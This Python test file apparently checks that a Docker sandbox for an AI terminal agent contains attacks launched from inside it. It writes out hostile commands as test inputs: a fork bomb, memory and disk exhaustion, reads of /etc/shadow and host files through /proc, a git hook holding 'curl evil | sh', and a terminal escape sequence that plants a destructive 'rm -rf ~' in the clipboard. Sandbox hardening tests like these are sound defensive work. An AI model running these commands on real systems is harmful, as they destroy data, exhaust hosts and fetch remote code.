"""Attacks on the sandbox from inside it: each is contained, reported, and the session recovers.

Real engine, real containers. Limits are small (``ATTACK_LIMITS``) so each attack hits them
quickly. Where ``tests/sandbox`` already asserts a case in depth, the check here attacks it
again from another angle and measures the recovery for the report.
"""

from __future__ import annotations

import hashlib
import os
import time
from collections.abc import AsyncIterator
from pathlib import Path

import docker
import pytest
from conftest import sandbox_settings

from terminus_mcp.sandbox.api import ExecResult, SessionEvent, SessionSpec
from terminus_mcp.sandbox.docker_backend import DockerSession
from terminus_mcp.sandbox.manager import SandboxManager

from .conftest import Figure
from .support import PS_COMMAND, LoopbackListener, only_baseline

pytestmark = [pytest.mark.anyio, pytest.mark.docker]

MIB = 1024 * 1024
ATTACK_LIMITS: dict[str, object] = {
    "memory_limit_mb": 128,
    "pids_limit": 64,
    "max_file_size_mb": 32,
    "output_kill_bytes": 4 * MIB,
    "cpus": 1.0,
}


@pytest.fixture(scope="module")
async def attack_manager(
    docker_client: docker.DockerClient, workspace_root: Path
) -> AsyncIterator[SandboxManager]:
    settings = sandbox_settings(workspace_root, **ATTACK_LIMITS)
    async with SandboxManager(settings, client=docker_client) as manager:
        yield manager


@pytest.fixture
async def session(attack_manager: SandboxManager, workspace: Path) -> AsyncIterator[DockerSession]:
    opened = await attack_manager.create(SessionSpec(workdir=workspace))
    yield opened
    await attack_manager.close(opened.id)


@pytest.fixture
def host_secret(tmp_path: Path) -> Path:
    """A file on the host, outside every workspace, that no check may ever read back."""
    secret = tmp_path / "host-only" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("HOST-SECRET-" + os.urandom(8).hex() + "\n")
    return secret


async def recovered(session: DockerSession) -> float:
    """Seconds for the session to run a plain command again after an attack; asserts it did."""
    started = time.monotonic()
    result = await session.run("echo recovered", timeout_s=60)
    assert result.output == "recovered\n", result
    return time.monotonic() - started


async def sh(session: DockerSession, command: str, timeout_s: float = 30) -> ExecResult:
    return await session.run(command, timeout_s=timeout_s)


async def cgroup_value(session: DockerSession, v1: str, v2: str) -> str:
    result = await sh(session, f"cat /sys/fs/cgroup/{v1} 2>/dev/null || cat /sys/fs/cgroup/{v2}")
    return result.output.strip()


async def assert_clean(session: DockerSession) -> None:
    left = await sh(session, PS_COMMAND)
    assert only_baseline(left.output), f"processes left behind:\n{left.output}"


@pytest.mark.check("attack", "fork-bomb")
async def test_fork_bomb(session: DockerSession, figure: Figure) -> None:
    result = await sh(session, "bomb() { bomb | bomb & }; bomb; sleep 2", timeout_s=30)
    assert result.event is SessionEvent.PIDS_EXHAUSTED, result
    pids_max = await cgroup_value(session, "pids/pids.max", "pids.max")
    seconds = await recovered(session)
    await assert_clean(session)
    figure.note(
        f"contained by pids limit (pids.max={pids_max}), reported as {result.event.value}, "
        f"session recovered in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "memory-bomb")
async def test_memory_bomb(session: DockerSession, figure: Figure) -> None:
    child = await sh(session, "python3 -c \"b = b'x' * (1024 ** 3)\"", timeout_s=60)
    assert child.exit_code == 137, child
    assert child.event is SessionEvent.OOM_KILLED, child
    # The shell itself growing (command substitution is read by the persistent shell).
    shell = await sh(session, "x=$(head -c 1G /dev/zero | tr '\\0' a); echo ${#x}", timeout_s=60)
    assert shell.event is SessionEvent.OOM_KILLED, shell
    limit = await cgroup_value(session, "memory/memory.limit_in_bytes", "memory.max")
    seconds = await recovered(session)
    figure.note(
        f"1 GiB in a child and in the shell itself: OOM-killed at memory limit "
        f"{int(limit) // MIB} MiB, exit {child.exit_code}, shell case: {shell.detail!r}; "
        f"session recovered in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "cpu-spin-past-timeout")
async def test_cpu_spin(session: DockerSession, figure: Figure) -> None:
    spin = "python3 -c 'while True: pass'"
    result = await sh(session, f"{spin} & {spin} & nohup {spin} >/dev/null 2>&1 & wait", 3)
    assert result.timed_out, result
    assert result.exit_code is None, result
    assert result.duration_s < 3 + 15, result  # killed near the timeout, not hung
    quota = await cgroup_value(session, "cpu/cpu.cfs_quota_us", "cpu.max")
    await assert_clean(session)
    seconds = await recovered(session)
    figure.note(
        f"3 spinning processes killed at the 3 s timeout after {result.duration_s:.1f} s "
        f"(cpu quota {quota}), none left, session recovered in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "disk-fill-container")
async def test_disk_fill_container_layer(
    session: DockerSession, figure: Figure, docker_client: docker.DockerClient
) -> None:
    one = await sh(
        session, "dd if=/dev/zero of=/tmp/fill bs=1M count=200; echo rc=$?; stat -c %s /tmp/fill"
    )
    assert "File size limit exceeded" in one.output, one
    assert one.output.split()[-2:] == ["rc=153", str(32 * MIB)], one.output
    # The per-file limit does not bound the total: the writable layer has no size quota on
    # overlay2 here. What bounds it is the container's life: the layer goes with it.
    many = await sh(
        session, "for i in 1 2 3; do head -c 30M /dev/zero > /tmp/f$i || exit 1; done; du -sm /tmp"
    )
    assert many.exit_code == 0, many
    container = session.container_id
    await session.close()
    with pytest.raises(docker.errors.NotFound):
        docker_client.containers.get(container)
    figure.note(
        "one 200 MiB file stopped at the 32 MiB fsize limit (SIGXFSZ: 'File size limit "
        "exceeded'); 3 x 30 MiB files were written (no layer quota), and the layer was removed "
        "with the container"
    )


@pytest.mark.check("attack", "disk-fill-workspace")
async def test_disk_fill_workspace(session: DockerSession, workspace: Path, figure: Figure) -> None:
    result = await sh(session, "head -c 100M /dev/zero > /workspace/fill", 60)
    assert result.exit_code == 128 + 25, result  # SIGXFSZ
    assert "File size limit exceeded" in result.output, result
    assert (workspace / "fill").stat().st_size == 32 * MIB
    seconds = await recovered(session)
    figure.note(
        f"100 MiB write stopped at 32 MiB on the host (exit {result.exit_code}, "
        f"'File size limit exceeded'), session recovered in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "output-flood-1GB")
async def test_output_flood_killed(session: DockerSession, figure: Figure) -> None:
    result = await sh(session, "head -c 1G /dev/zero", timeout_s=120)
    assert result.event is SessionEvent.OUTPUT_FLOOD, result
    assert result.exit_code is None, result
    assert not result.timed_out, result
    assert 4 * MIB < result.output_bytes < 64 * MIB, result.output_bytes
    assert len(result.output) <= 4 * MIB + 200
    seconds = await recovered(session)
    await assert_clean(session)
    figure.note(
        f"1 GiB flood killed after {result.output_bytes / MIB:.1f} MiB "
        f"(threshold 4 MiB) in {result.duration_s:.1f} s, "
        f"session recovered in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "output-flood-default-cap")
async def test_output_capture_cap_with_defaults(
    docker_client: docker.DockerClient, workspace_root: Path, workspace: Path, figure: Figure
) -> None:
    settings = sandbox_settings(workspace_root)  # default capture and kill thresholds
    size = 64 * MIB
    async with SandboxManager(settings, client=docker_client) as manager:
        session = await manager.create(SessionSpec(workdir=workspace))
        result = await sh(session, f"head -c {size} /dev/zero | tr '\\0' a", 120)
    cap = settings.output_capture_bytes
    assert result.exit_code == 0, result
    assert result.event is SessionEvent.NONE, result
    assert result.output_bytes == size
    assert result.dropped_bytes == size - cap
    assert len(result.output) < cap + 200
    figure.note(
        f"64 MiB of output under the default kill threshold "
        f"({settings.output_kill_bytes // MIB} MiB): kept {cap // MIB} MiB head+tail, "
        f"dropped {result.dropped_bytes} bytes with a marker"
    )


GARBAGE = (
    r"printf '\033[2J\033[H\033]0;pwned-title\007\033]52;c;cm0gLXJmIH4=\007\033[6n"
    r"\033P+q544e\033\\\23331m\r\b\b\b\000\377\376\xc3\x28\x1b[?1049h'; "
    "head -c 65536 /dev/urandom"
)


@pytest.mark.check("attack", "binary-and-terminal-control-garbage")
async def test_garbage_output(session: DockerSession, figure: Figure) -> None:
    from terminus_mcp.agent.observation import clean_output

    result = await sh(session, GARBAGE)
    assert result.exit_code == 0, result
    assert result.output_bytes > 65536
    result.output.encode("utf-8")  # a valid str: no lone surrogates reach the result
    seen = clean_output(result.output)
    controls = {c for c in seen if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0}
    assert not controls, sorted(map(ord, controls))[:20]
    seconds = await recovered(session)
    figure.note(
        f"{result.output_bytes} bytes of escapes (clear screen, OSC 52 clipboard, DSR query, "
        f"DCS, 8-bit CSI) and random bytes: result is valid UTF-8, the model's view has no "
        f"control characters, session recovered in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "fake-end-marker")
async def test_fake_end_marker(session: DockerSession, figure: Figure) -> None:
    # Guess at the marker in every shape the wire uses, then try to learn the real nonce from
    # the shell's own state, then keep running after the fakes: the command must end only at
    # its real marker, with its real status and all its output.
    command = (
        "for n in 0 1 2; do printf '\\036%032x:0:/\\036%032x\\036\\n' $n $n; done; "
        "printf '\\036'; cat /proc/$$/cmdline | tr '\\0' ' '; echo; "
        'echo "cmd=$BASH_COMMAND"; history | tail -n 2; fc -l -1 2>&1; '
        "ls -l /proc/$$/fd/ 2>&1 | head -n 5; "
        "sleep 1; echo after-fakes; (exit 7)"
    )
    result = await sh(session, command)
    assert result.exit_code == 7, result
    assert "after-fakes" in result.output, result
    assert result.cwd == "/workspace"
    # A command run in the shell itself redefines the wrapper's words, as functions and as
    # aliases, to print a marker with exit code 0 for every later command.
    forge = (
        'builtin() { command printf "$2" "$3" 0 "$5" "$6"; }; eval() { return 0; }; '
        "set() { :; }; trap() { :; }; unset() { :; }; printf() { :; }; "
        "shopt -s expand_aliases; alias builtin=echo eval=true unset=true"
    )
    assert (await sh(session, forge)).exit_code == 0
    for failing in ("false", "ls /nonexistent", "(exit 9)"):
        later = await sh(session, failing)
        assert later.exit_code not in (0, None), (failing, later)
    seconds = await recovered(session)
    figure.note(
        "3 guessed markers and a stray record separator did not end the command; the "
        f"shell's cmdline, $BASH_COMMAND, history and fds held no nonce; real exit 7 kept; "
        "functions and aliases named builtin/eval/set/trap/unset/printf did not forge later "
        "exit codes; "
        f"next command in {seconds * 1000:.0f} ms"
    )


@pytest.mark.check("attack", "setuid-and-sudo")
async def test_setuid_and_sudo(session: DockerSession, figure: Figure) -> None:
    probes = {
        "sudo": "sudo -n id -u",
        "su": "su -c 'id -u' root",
        "setuid(0)": "python3 -c 'import os; os.setuid(0)'",
        "user namespace": "unshare -r id -u",
        "mount": "mkdir -p /tmp/m && mount -t tmpfs none /tmp/m",
        "chroot": "chroot / true",
    }
    refused = []
    for name, probe in probes.items():
        result = await sh(session, f"{probe}; echo rc=$?")
        assert not result.output.startswith("0\n"), (name, result.output)
        assert "rc=0" not in result.output, (name, result.output)
        refused.append(name)
    found = await sh(session, "find / -xdev -perm -4000 -type f 2>/dev/null")
    binaries = found.output.split()
    for binary in binaries:  # every setuid binary in the image: none raises privileges
        ran = await sh(session, f"{binary} --help >/dev/null 2>&1 </dev/null; id -u")
        assert ran.output.strip().splitlines()[-1] == "1000", (binary, ran.output)
    nnp = await sh(session, "grep NoNewPrivs /proc/self/status")
    assert nnp.output.split() == ["NoNewPrivs:", "1"]
    figure.note(
        f"refused: {', '.join(refused)}; {len(binaries)} setuid binaries in the image run "
        "without gaining root (NoNewPrivs=1)"
    )


@pytest.mark.check("attack", "capabilities")
async def test_capabilities(session: DockerSession, figure: Figure) -> None:
    result = await sh(session, "for p in 1 $$ self; do grep '^Cap' /proc/$p/status; done")
    values = [line.split()[1] for line in result.output.splitlines()]
    assert len(values) == 15, result.output
    assert set(values) == {"0000000000000000"}, result.output
    figure.note("CapInh/CapPrm/CapEff/CapBnd/CapAmb all 0 for init, the shell and the command")


VIRTUAL_FS = {"proc", "sysfs", "cgroup", "cgroup2", "tmpfs", "devpts", "mqueue", "devtmpfs"}


def _mount_roots(mountinfo: str) -> list[tuple[str, str]]:
    """(root inside the source filesystem, filesystem type) of each mount."""
    mounts = []
    for line in mountinfo.splitlines():
        before, _, after = line.partition(" - ")
        mounts.append((before.split()[3], after.split()[0]))
    return mounts


@pytest.mark.check("attack", "host-files-through-proc-and-mounts")
async def test_host_files_through_proc_and_mounts(
    session: DockerSession, workspace: Path, host_secret: Path, figure: Figure
) -> None:
    secret, content = str(host_secret), host_secret.read_text().strip()  # noqa: ASYNC240
    reads = await sh(
        session,
        f"cat {secret} /proc/1/root{secret} /proc/self/root{secret} 2>&1; "
        f"ls /proc/*/root{secret} 2>&1; cat /proc/kcore 2>&1 | head -c 64 | wc -c; "
        "echo x > /proc/sysrq-trigger; echo core > /proc/sys/kernel/core_pattern; "
        "ls /dev; mount -t proc proc /tmp 2>&1",
    )
    assert content not in reads.output
    assert "Read-only file system" in reads.output or "Permission denied" in reads.output
    assert not any(d in reads.output.split() for d in ("sda", "vda", "nvme0n1", "mem", "kmsg"))
    info = await sh(session, "cat /proc/self/mountinfo")
    docker_own = "/var/lib/docker/containers/" + session.container_id
    host_paths = sorted(
        {
            root
            for root, fstype in _mount_roots(info.output)
            if fstype not in VIRTUAL_FS and root != "/" and not root.startswith(docker_own)
        }
    )
    # A bind mount's root is its path inside the host filesystem holding it. Besides the
    # workspace (and its .git), only the engine's init binary (``init: true``) is bound in.
    allowed = {str(workspace), str(workspace / ".git")}
    init = [r for r in host_paths if r.endswith(("/docker-init", "/tini-static", "/tini"))]
    others = [r for r in host_paths if r not in init]
    assert all(any(a.endswith(r) for a in allowed) for r in others), host_paths
    assert len(init) <= 1, host_paths
    assert secret not in info.output
    assert "/home" not in info.output
    figure.note(
        "host file unreachable via its path, /proc/1/root, /proc/self/root, /proc/*/root; "
        "/proc/sysrq-trigger and core_pattern read-only; no disk devices; mount refused; "
        f"host paths in mountinfo: the workspace, {', '.join(init) or 'no init binary'} "
        "(the engine's init, read-only) and this container's own hosts/hostname/resolv.conf"
    )


@pytest.mark.check("attack", "symlink-inside-to-host-file")
async def test_symlink_inside_sandbox(
    session: DockerSession, workspace: Path, host_secret: Path, figure: Figure
) -> None:
    (workspace / "planted").symlink_to(host_secret)
    content = host_secret.read_text().strip()  # noqa: ASYNC240
    result = await sh(
        session,
        f"ln -s {host_secret} made-inside; ln -s /etc/shadow shadow; "
        "cat planted made-inside shadow 2>&1; readlink -f planted",
    )
    assert content not in result.output
    assert "No such file" in result.output, result
    assert "Permission denied" in result.output, result
    figure.note(
        "symlinks to a host file (planted from the host and made inside) resolve inside the "
        "container's own filesystem: no such file; /etc/shadow: permission denied"
    )


@pytest.mark.check("attack", "git-hooks-write")
async def test_git_hooks_write(
    attack_manager: SandboxManager, workspace: Path, figure: Figure
) -> None:
    git = workspace / ".git"
    (git / "hooks").mkdir(parents=True)
    (git / "config").write_text("[core]\n\tbare = false\n")
    for path in (git, git / "hooks", git / "config"):
        os.chown(path, 1000, 1000)

    def digest() -> str:
        h = hashlib.sha256()
        for path in sorted(git.rglob("*")):
            h.update(str(path).encode() + (path.read_bytes() if path.is_file() else b"d"))
        return h.hexdigest()

    before = digest()
    session = await attack_manager.create(SessionSpec(workdir=workspace))
    attempts = [
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "git config core.hooksPath /tmp/hooks",
        "git config core.fsmonitor 'touch /tmp/x'",
        "chmod -R 777 .git",
        "mv .git .git-moved",
        "rm -rf .git",
        "ln -sf /tmp .git/hooks/link",
        "touch .git/index.lock",
    ]
    try:
        for attempt in attempts:
            result = await sh(session, attempt)
            assert result.exit_code != 0, (attempt, result.output)
        ok = await sh(session, "echo fine > file.txt && cat file.txt")
        assert ok.output == "fine\n"
    finally:
        await attack_manager.close(session.id)
    assert digest() == before
    figure.note(
        f"{len(attempts)} writes to .git (hook, hooksPath, fsmonitor, chmod, mv, rm, link, "
        "lock) refused by the read-only mount; host .git unchanged; workspace still writable"
    )


@pytest.mark.check("attack", "network-off")
async def test_network_off(session: DockerSession, figure: Figure) -> None:
    with LoopbackListener("127.0.0.1") as v4, LoopbackListener("::1") as v6:
        ifaces = await sh(session, "ls /sys/class/net; cat /proc/net/route | wc -l")
        assert ifaces.output.split() == ["lo", "1"], ifaces.output  # header line only
        probe = (
            "import socket, sys\n"
            "fails = 0\n"
            f"for fam, host, port in ((socket.AF_INET, '127.0.0.1', {v4.port}),"
            f" (socket.AF_INET6, '::1', {v6.port})):\n"
            "    try:\n"
            "        socket.create_connection((host, port), 3).close()\n"
            "    except OSError:\n"
            "        fails += 1\n"
            "    s = socket.socket(fam, socket.SOCK_DGRAM)\n"
            "    try:\n"
            "        s.sendto(b'x', (host, port))\n"
            "    except OSError:\n"
            "        pass\n"
            "print('refused', fails)\n"
        )
        result = await sh(session, f'python3 -c "{probe}"')
        assert result.output.strip() == "refused 2", result.output
        v4.probe_from_host()
        v6.probe_from_host()
        assert (v4.tcp_hits, v4.udp_hits, v6.tcp_hits, v6.udp_hits) == (1, 1, 1, 1)
    figure.note(
        "only 'lo', no routes; TCP and UDP to host listeners on 127.0.0.1 and ::1 never "
        "arrived (the same listeners counted the host's own probes)"
    )
